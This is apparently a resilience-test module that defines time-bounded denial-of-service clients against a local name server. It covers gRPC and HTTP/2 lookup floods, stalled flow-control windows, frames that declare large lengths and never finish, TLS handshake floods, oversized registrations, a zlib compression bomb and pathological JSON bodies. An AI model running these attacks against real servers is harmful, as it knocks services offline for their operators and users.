"""Clients that keep a name server busy from one address: a function for each, bounded in time.

Each prints how many connections it had.
"""

from __future__ import annotations

import json
import os
import random
import resource
import selectors
import socket
import struct
import sys
import threading
import time
import zlib
from abc import ABC, abstractmethod
from collections.abc import Callable
from contextlib import ExitStack, suppress

import grpc
from namesrv_api.v1.registration_service_pb2 import RegisterBrokerRequest

from groundwork.program import use_all_descriptors
from tests.faults.attack.kinds import ByHand, hold
from tests.faults.attack.on_grpc import client_hello
from tests.support.hostile.frames import (
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    HEADERS,
    HOST,
    INITIAL_WINDOW_SIZE,
    LOOKUP,
    REGISTER,
    ROUTE,
    WATCH,
    WINDOW_BYTES,
    WINDOW_UPDATE,
    call,
    connections,
    field,
    frame,
    headers,
    hello,
    prefixed,
)
from tests.support.programs.processes import Client
from tests.support.programs.rocketmq import broker_fields, data_version
from tests.support.programs.rocketmq import frame as request
from tests.support.registrations import identity, registration

LOOKUPS_IN_A_BATCH = 45
"""Lookups of 40 bytes each: less than the 2 KiB of a light turn."""
FEW, ALL = 10, 9_800
"""Connections that look up. A process may have 20,000 descriptors where its hard limit is not raised, and so may the
server, which needs two for each connection of this machine."""
HANDSHAKES, HOLDING = 2_048, 1_000
LARGE_MESSAGE = 4 << 20
HUGE_WINDOW = (1 << 31) - 1
LARGE_TOPICS, AT_ONCE = 190_000, 12
"""Topics of 4 MB, and such registrations at once: within all shares."""
REPEATS = 2_000_000
"""Entries of one topic that a registration of 192 kB unpacks to."""
LIST, QUERY_DATA_VERSION, REGISTER_BROKER = 206, 322, 103


class _Peer(ABC):
    """A connection that sends as fast as it is answered."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.unsent = bytearray(self.greeting())

    @abstractmethod
    def greeting(self) -> bytes:
        """What to send at once."""

    @abstractmethod
    def take(self, came: bytes) -> bytes:
        """What to send next, after these bytes have arrived."""


class _LooksUp(_Peer):
    """Batches of lookups with fields of HPACK's table; the next one when the last has been answered."""

    def greeting(self) -> bytes:
        self._stream = 1
        first = b"\x83\x86" + b"".join(
            field(name, value, indexed=True)
            for name, value in (
                (":path", LOOKUP),
                (":authority", "attack"),
                ("te", "trailers"),
                ("content-type", "application/grpc"),
            )
        )
        wide = frame(WINDOW_UPDATE, 0, 0, (HUGE_WINDOW - WINDOW_BYTES).to_bytes(4, "big"))
        return hello((INITIAL_WINDOW_SIZE, HUGE_WINDOW)) + wide + self._call(first)

    def _call(self, block: bytes = b"\x83\x86\xc1\xc0\xbf\xbe") -> bytes:
        stream = self._stream
        self._stream += 2
        self._last = b"\x01\x05" + stream.to_bytes(4, "big")
        return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, prefixed(ROUTE))

    def take(self, came: bytes) -> bytes:
        if self._last not in came:
            return b""
        return b"".join(self._call() for _ in range(LOOKUPS_IN_A_BATCH))


def _drive(port: int, seconds: float, count: int, kind: Callable[[socket.socket], _Peer]) -> None:
    """Opens connections, and answers each as soon as something has arrived. Cut connections are opened anew."""
    use_all_descriptors()
    until, most = time.monotonic() + seconds, 0
    with selectors.DefaultSelector() as selector:
        missing = count
        while (now := time.monotonic()) < until:
            for _ in range(min(missing, 200)):
                sock = socket.socket()
                sock.setblocking(False)
                with suppress(BlockingIOError):
                    sock.connect((HOST, port))
                selector.register(sock, selectors.EVENT_WRITE | selectors.EVENT_READ, kind(sock))
                missing -= 1
            most = max(most, count - missing)
            for key, _ in selector.select(0 if missing else min(0.1, until - now)):
                peer = key.data
                try:
                    with suppress(BlockingIOError):
                        if not (came := peer.sock.recv(262_144)):
                            raise ConnectionResetError
                        peer.unsent += peer.take(came)
                    with suppress(BlockingIOError):
                        del peer.unsent[: peer.sock.send(peer.unsent)]
                    wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if peer.unsent else 0)
                    if wanted != key.events:
                        selector.modify(peer.sock, wanted, peer)
                except OSError:
                    selector.unregister(peer.sock)
                    peer.sock.close()
                    missing += 1
        for key in list(selector.get_map().values()):
            key.data.sock.close()
    _tell(most)


def _tell(count: int) -> None:
    sys.stdout.write(f"{count} connections of {resource.getrlimit(resource.RLIMIT_NOFILE)[0]} descriptors\n")


def _hold(count: int, greeting: bytes) -> ByHand:
    def attack(port: int, seconds: float) -> None:
        use_all_descriptors()
        _tell(count)
        hold(greeting, count)(port, seconds)

    return ByHand(attack)


def handshakes(port: int, seconds: float) -> None:
    """Beginnings of TLS at once, again and again, which cost the attacker nothing and the server a signature each."""
    beginning = client_hello()
    use_all_descriptors()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with connections(port, HANDSHAKES, b"") as opened:
            for sock in opened:
                with suppress(OSError):
                    sock.send(beginning)
            time.sleep(min(1.0, max(0.0, until - time.monotonic())))
            _tell(len(opened))


def held_windows(port: int, seconds: float) -> None:
    """Watches whose next message stops after 240 KiB, and whose answers are not taken."""
    part = frame(DATA, 0, 0, bytes(FRAME_BYTES))
    begun = b""
    for stream in (1, 3, 5, 7):
        begun += frame(HEADERS, END_HEADERS, stream, headers(WATCH)) + frame(DATA, 0, stream, prefixed(ROUTE))
        begun += frame(DATA, 0, stream, b"\0" + LARGE_MESSAGE.to_bytes(4, "big"))
        begun += (part[:5] + stream.to_bytes(4, "big") + part[9:]) * 15

    class Withholds(_Peer):
        def greeting(self) -> bytes:
            self._rest = begun  # once the server has said how large its windows are
            return hello((INITIAL_WINDOW_SIZE, 0))

        def take(self, came: bytes) -> bytes:
            del came
            rest, self._rest = self._rest, b""
            return rest

    _drive(port, seconds, HOLDING, Withholds)


def _register_at_once(port: int, seconds: float, count: int) -> None:
    """So many registrations of 190,000 topics at once, again and again."""
    until = time.monotonic() + seconds

    def register(number: int, client: Client) -> None:
        large = _large(number)
        while time.monotonic() < until:
            large.data_version.counter += 1
            with suppress(grpc.RpcError):
                client.registration.RegisterBroker(large, timeout=max(0.1, until - time.monotonic()))

    with ExitStack() as opened:
        threads = []
        for number in range(count):
            options = [("grpc.use_local_subchannel_pool", 1)]
            client = Client(opened.enter_context(grpc.insecure_channel(f"{HOST}:{port}", options)))
            threads.append(threading.Thread(target=register, args=(number, client), daemon=True))
            threads[-1].start()
        _tell(len(threads))
        for thread in threads:
            thread.join(max(0.1, until + 1 - time.monotonic()))


def _large(number: int) -> RegisterBrokerRequest:
    topics = [f"large-{topic}" for topic in range(LARGE_TOPICS)]
    return registration(topics, identity(f"127.0.0.1:{20_000 + number}", name=f"large-{number}"))


def compressed_registrations(port: int, seconds: float) -> None:
    """One registration after the other that has one topic two million times in 200 kB."""
    topic = b"t 1 1 6 SINGLE_TAG {}"
    version = json.dumps(data_version(1)).encode()
    plain = struct.pack(">i", len(version)) + version + struct.pack(">i", REPEATS)
    packed = zlib.compress(plain + (struct.pack(">i", len(topic)) + topic) * REPEATS + struct.pack(">i", 2) + b"[]", 9)
    given = broker_fields("packed", "127.0.0.1:9") | {"compressed": "true", "haServerAddr": "127.0.0.1:10"}
    _one_by_one(port, seconds, 1, request(REGISTER_BROKER, given, packed))


def odd_json(port: int, seconds: float) -> None:
    """Bodies with 25,000 keys without quotes, headers with 170,000 objects, and headers of 999 numbers."""
    keys = b"{" + b",".join(b"a%d:1" % number for number in range(25_000)) + b"}"
    lenient = request(QUERY_DATA_VERSION, broker_fields(), keys)
    nested = _odd_header(b'"odd":[' + b"{}," * 170_000 + b"{}]")
    numbers = b",".join(b'"a%d":%d' % (number, 10**9 + number) for number in range(999))
    _one_by_one(port, seconds, 6, lenient, nested, _odd_header(b'"extFields":{' + numbers + b"}"))


def _odd_header(member: bytes) -> bytes:
    header = b'{"code":105,"flag":0,"language":"JAVA","opaque":1,"version":513,' + member + b"}"
    return struct.pack(">II", 4 + len(header), len(header)) + header


def _one_by_one(port: int, seconds: float, count: int, *frames: bytes) -> None:
    """Sends requests over connections, each when the last one of its connection was answered."""

    class Asks(_Peer):
        def greeting(self) -> bytes:
            return random.choice(frames)

        def take(self, came: bytes) -> bytes:
            return b"" if self.unsent else random.choice(frames)

    _drive(port, seconds, count, Asks)


OTHER_TYPE = headers(LOOKUP).replace(b"application/grpc", b"application/text")

ATTACKS = {
    "busy grpc": {
        # Batches of small lookups; the first is the control.
        "lookups-of-few": ByHand(lambda port, seconds: _drive(port, seconds, FEW, _LooksUp)),
        "lookups-of-all": ByHand(lambda port, seconds: _drive(port, seconds, ALL, _LooksUp)),
        # Requests of another content type that never end.
        "not-grpc": _hold(
            3_000, hello() + b"".join(frame(HEADERS, END_HEADERS, stream, OTHER_TYPE) for stream in range(1, 400, 2))
        ),
        # Calls of five bytes that declare 16 KiB.
        "declared-lengths": _hold(
            240,
            hello()
            + b"".join(
                call(REGISTER, stream, None) + frame(DATA, 0, stream, b"\0" + (16_384).to_bytes(4, "big"))
                for stream in range(1, 400, 2)
            ),
        ),
        "held-windows": ByHand(held_windows),
        # The first is the control.
        "one-large-registration": ByHand(lambda port, seconds: _register_at_once(port, seconds, 1)),
        "large-registrations": ByHand(lambda port, seconds: _register_at_once(port, seconds, AT_ONCE)),
    },
    "busy tls": {"handshakes": ByHand(handshakes)},
    "busy remoting": {
        # Lists with bodies of 60 kB, 32 at a time, whose answers are not taken.
        "queued-frames": _hold(500, request(LIST, body=os.urandom(60_000)) * 32),
        # Frames that declare 16 MiB and stop after 12 bytes.
        "declared-frames": _hold(100, struct.pack(">II", (16 << 20) - 4, 2) + b"{}" + bytes(2)),
        "compressed-registrations": ByHand(compressed_registrations),
        "odd-json": ByHand(odd_json),
    },
}
"""By listener and name."""
